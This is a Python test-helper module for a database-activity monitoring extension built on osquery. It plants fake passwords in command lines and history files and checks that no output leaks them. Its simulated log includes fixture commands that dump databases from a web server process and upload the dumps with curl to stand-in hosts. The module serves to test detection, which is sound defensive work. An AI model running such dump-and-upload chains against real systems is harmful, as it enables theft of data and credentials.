"""A planted-secret sweep any test can run over any output.

Plant the secrets of PLANTED_SECRETS in inputs (command lines, history files,
scenario logs) with the forms of SECRET_FORMS, run the program, then
`assert_no_secret(output)` on every output it wrote: stdout, stderr, findings,
table rows, state files, reports. Each secret is a distinct, unlikely token,
so a hit names the form that leaked.

    from secrets_sweep import PLANTED_SECRETS, SECRET_FORMS, assert_no_secret

Also here, so every sweep plants the same way: `write_planted_log` (an
osquery results log in which every form reaches a finding), `plant_homes`
(history files holding every form), `start_planted_clients` (processes
running with the planted command lines) and `write_accounts_shim` (a
launcher that runs the real CLI or extension with the planted homes as the
host's accounts).
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path
from typing import Iterable

# One secret per form: the key names the form, the value is the planted secret.
PLANTED_SECRETS: dict[str, str] = {
    "mysql-attached": "Pw1MysqlAttached",
    "mysql-after-semicolon": "Pw2AfterSemicolon",
    "mysql-after-pipe": "Pw3AfterPipe",
    "mysql-after-amp": "Pw4AfterAmp",
    "set-password-for": "Pw5SetPasswordFor",
    "set-password-bare": "Pw6SetPasswordBare",
    "mongosh-p": "Pw7MongoshP",
    "mongodump-p": "Pw8MongodumpP",
    "mongodump-attached": "Pw9MongodumpAttached",
    "mysqladmin-password": "Pw10MysqladminWord",
    "db-password": "Pw11DbPassword",
    "rclone-ftp-pass": "Pw12RcloneFtpPass",
    "unknown-program-password": "Pw13GenericPassword",
    "alter-user-identified": "Pw14AlterUserIdentified",
    "alter-user-replace": "Pw15AlterUserReplace",
    "create-user-password": "Pw16CreateUserPassword",
    "uri-password": "Pw17UriPassword",
    "uri-password-slash": "Pw18Uri/Slash",
    "psql-env": "Pw19PgPassword",
    "redis-auth": "Pw20RedisAuth",
    "history-set-password": "Pw21HistorySetPassword",
    "history-identified": "Pw22HistoryIdentified",
    "history-create-user": "Pw23HistoryCreateUser",
    "history-mongo-auth": "Pw24HistoryMongoAuth",
    "history-redis-auth": "Pw25HistoryRedisAuth",
    "history-uri": "Pw26HistoryUri",
}

_S = PLANTED_SECRETS

# Command lines as osquery's audit tables give them: argv joined by spaces, the
# shell's quotes gone (so `mysql -e "use shop; select 1" -uroot -pX` has a bare `;`).
SECRET_CMDLINES: dict[str, str] = {
    "mysql-attached": f"mysqldump -u root -p{_S['mysql-attached']} shop",
    "mysql-after-semicolon": f"mysql -e use shop; select 1 -uroot -p{_S['mysql-after-semicolon']}",
    "mysql-after-pipe": f"mysql -e select a | b from t -uroot -p{_S['mysql-after-pipe']}",
    "mysql-after-amp": f"mysql -e select 1 & 2 -uroot -p{_S['mysql-after-amp']} shop",
    "set-password-for": f"mysql -e SET PASSWORD FOR 'app'@'%' = '{_S['set-password-for']}'",
    "set-password-bare": f"mysql -e SET PASSWORD FOR app = {_S['set-password-bare']}",
    "mongosh-p": f"mongosh -u adm -p {_S['mongosh-p']} db1/admin",
    "mongodump-p": f"mongodump -u adm -p {_S['mongodump-p']} --out /tmp/d",
    "mongodump-attached": f"mongodump -u adm -p{_S['mongodump-attached']} --out /tmp/d",
    "mysqladmin-password": f"mysqladmin -u root password {_S['mysqladmin-password']}",
    "db-password": f"/opt/app/bin/migrate --db-host db1 --db-password {_S['db-password']}",
    "rclone-ftp-pass": f"rclone copy /tmp/d.sql ftp: --ftp-host e.example --ftp-pass {_S['rclone-ftp-pass']}",
    "unknown-program-password": f"psql -c select 1; docker login --password {_S['unknown-program-password']} registry.example",
    "alter-user-identified": f"mysql -e ALTER USER bob IDENTIFIED BY '{_S['alter-user-identified']}'",
    "alter-user-replace": f"mysql -e ALTER USER bob IDENTIFIED BY 'x' REPLACE '{_S['alter-user-replace']}'",
    "create-user-password": f"psql -c CREATE USER app PASSWORD '{_S['create-user-password']}'",
    "uri-password": f"psql postgresql://bob:{_S['uri-password']}@db1:5432/sales",
    "uri-password-slash": f"mongosh mongodb://adm:{_S['uri-password-slash']}@db1:27017/admin",
    "psql-env": f"env PGPASSWORD={_S['psql-env']} psql -h db1 sales",
    "redis-auth": f"redis-cli -h r1 AUTH {_S['redis-auth']}",
}

# History entries, one per line of a client's history file.
SECRET_HISTORY: dict[str, str] = {
    "history-set-password": f"SET PASSWORD FOR 'app'@'localhost' = '{_S['history-set-password']}';",
    "history-identified": f"ALTER USER app IDENTIFIED BY '{_S['history-identified']}';",
    "history-create-user": f"CREATE USER app PASSWORD '{_S['history-create-user']}';",
    "history-mongo-auth": f"db.auth('adm', '{_S['history-mongo-auth']}')",
    "history-redis-auth": f"AUTH {_S['history-redis-auth']}",
    "history-uri": f"\\connect postgresql://bob:{_S['history-uri']}@db1/sales",
}

SECRET_FORMS: dict[str, str] = {**SECRET_CMDLINES, **SECRET_HISTORY}


def leaked(data: str | bytes, secrets: Iterable[str] = PLANTED_SECRETS.values()) -> list[str]:
    """The planted secrets found in `data` (text, or bytes such as a state file)."""
    raw = data if isinstance(data, bytes) else data.encode("utf-8", "surrogateescape")
    return [s for s in secrets if s.encode() in raw]


def assert_no_secret(data: str | bytes, where: str = "output") -> None:
    """Fail naming every planted secret (and its form) found in `data`."""
    found = leaked(data)
    if found:
        forms = [k for k, v in PLANTED_SECRETS.items() if v in found]
        raise AssertionError(f"{where} leaks planted secrets of forms {forms}")


def assert_no_secret_in_files(paths: Iterable[str]) -> None:
    """assert_no_secret over files that exist (a state database with its -wal and -shm)."""
    for path in paths:
        if os.path.exists(path):
            with open(path, "rb") as handle:
                assert_no_secret(handle.read(), path)


def write_planted_log(path: Path) -> None:
    """A log where every planted form reaches a finding: command lines of chained accesses, history entries."""
    from correlate_scenarios.make_scenarios import MON, Log

    from osq_dbwatch.cmdline import parse_db_command

    log = Log()
    t = MON + 2 * 86400 + 13 * 3600
    for number, line in enumerate(SECRET_CMDLINES.values()):
        pid = 5000 + 10 * number
        out = f"/var/www/html/d{number}.sql"
        # a web server's child: each access opens a chain that the dump and the upload complete; a
        # line that runs no DB client is the shell's (the parent) that runs one
        program = os.path.basename(line.split()[0])
        if parse_db_command("/usr/bin/" + program, line.split()) is not None:
            cmdline, parent_cmdline = line, f"sh -c {line} > {out}"
        else:
            cmdline, parent_cmdline = "mysqldump -u app shop", f"sh -c {line}; mysqldump -u app shop > {out}"
        log.db_exec("web-7", t, "www-data", 33, cmdline, "/usr/bin/" + cmdline.split()[0], pid,
                    "/usr/sbin/php-fpm8.2", parent_cmdline, session=False, cwd="/var/www/html")
        log.dump_file("web-7", t + 3, out, "www-data", 33)
        log.transfer("web-7", t + 30, "www-data", 33, f"curl -F f=@{out} https://paste.example.org/up",
                     "/usr/bin/curl", pid + 1, session=False)
        t += 7200
    for number, entry in enumerate(SECRET_HISTORY.values()):
        user, uid = f"h{number}", 4000 + number
        out = f"/tmp/h{number}.csv"
        obj = log._head("db_client_history", "pg-10", t, 1 + number)
        obj["diffResults"] = {"removed": [], "added": [{
            "uid": str(uid), "user": user, "file": f"/home/{user}/.psql_history", "file_mtime": str(t - 40),
            "line": "1", "from_tail": "0", "command": entry, "engine": "postgres",
            "dump_like": "1", "intent": "\\copy to", "output_path": out,
        }]}
        log.lines.append(json.dumps(obj))
        log.dump_file("pg-10", t - 50, out, user, uid)
        log.transfer("pg-10", t + 100, user, uid, f"curl -T {out} https://198.51.100.80/in", "/usr/bin/curl",
                     9100 + number)
        t += 7200
    path.write_text("\n".join(log.lines) + "\n")


def plant_homes(base: Path) -> tuple[str, str]:
    """One user whose every catalog history file holds every planted form; (passwd, group) paths."""
    from osq_dbwatch import catalog

    home = base / "home" / "alice"
    home.mkdir(parents=True)
    text = "\n".join([*SECRET_HISTORY.values(), *SECRET_CMDLINES.values()]) + "\n"
    for source in catalog.HISTORY_SOURCES:
        if source.suffix:
            (home / source.path).mkdir(parents=True, exist_ok=True)
            (home / source.path / ("planted" + source.suffix)).write_text(text)
        else:
            (home / source.path).write_text(text)
    (base / "passwd").write_text(f"alice:x:1500:1500::{home}:/bin/bash\n")
    (base / "group").write_text("alice:x:1500:\n")
    return str(base / "passwd"), str(base / "group")


def planted_history_rows() -> int:
    """Rows db_client_history gives for plant_homes' user: every entry of every history file."""
    from osq_dbwatch import catalog

    return (len(SECRET_HISTORY) + len(SECRET_CMDLINES)) * len(catalog.HISTORY_SOURCES)


def start_planted_clients(bindir: Path) -> list[subprocess.Popen[bytes]]:
    """A sleeping process per planted command line, its argv as the shell leaves it (quotes kept)."""
    from osq_dbwatch import procfs

    bindir.mkdir(exist_ok=True)
    procs: list[subprocess.Popen[bytes]] = []
    for line in SECRET_CMDLINES.values():
        argv = line.split()
        name = os.path.basename(argv[0])
        if name == "env":
            argv = argv[2:]
            name = argv[0]
        script = bindir / name
        if not script.exists():
            script.write_text("#!/usr/bin/perl\nsleep 60;\n")
            script.chmod(0o755)
        procs.append(subprocess.Popen([str(script), *argv[1:]], stdin=subprocess.DEVNULL,
                                      stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
    deadline = time.monotonic() + 10
    for proc in procs:  # until each has exec'd (perl has replaced the forked Python's argv)
        while time.monotonic() < deadline:
            argv = procfs.cmdline(proc.pid) or []
            if argv and os.path.basename(argv[0]).startswith("perl"):
                break
            time.sleep(0.01)
    return procs


def planted_db_client_pids(procs: list[subprocess.Popen[bytes]]) -> set[int]:
    """The pids of start_planted_clients' processes that run a DB client (db_cli_sessions must show them)."""
    from osq_dbwatch import catalog

    return {p.pid for p, line in zip(procs, SECRET_CMDLINES.values())
            if os.path.basename(line.split()[0]) in catalog.DB_TOOLS_BY_NAME}


def stop_clients(procs: list[subprocess.Popen[bytes]]) -> None:
    for proc in procs:
        proc.kill()
    for proc in procs:
        proc.wait()


_SHIM = """#!{python}
# The real `osq-dbwatch` CLI (or, given --socket, the real extension server) with the
# host's accounts read from planted passwd and group files: their homes hold planted history.
import os, sys
from osq_dbwatch.tables import env
from osq_dbwatch.tables.accounts import Accounts
_passwd, _group = {passwd!r}, {group!r}
env.TableEnv.accounts = lambda self: Accounts.load(_passwd, _group)
if "--socket" in sys.argv:
    from osq_dbwatch.tables.server import main
    sys.exit(main(sys.argv[1:]))
from osq_dbwatch.cli import main
sys.exit(main(sys.argv[1:]))
"""


def write_accounts_shim(path: Path, passwd: str, group: str) -> str:
    """An executable that runs the CLI or the extension with plant_homes' accounts."""
    path.write_text(_SHIM.format(python=sys.executable, passwd=passwd, group=group))
    path.chmod(0o755)
    return str(path)
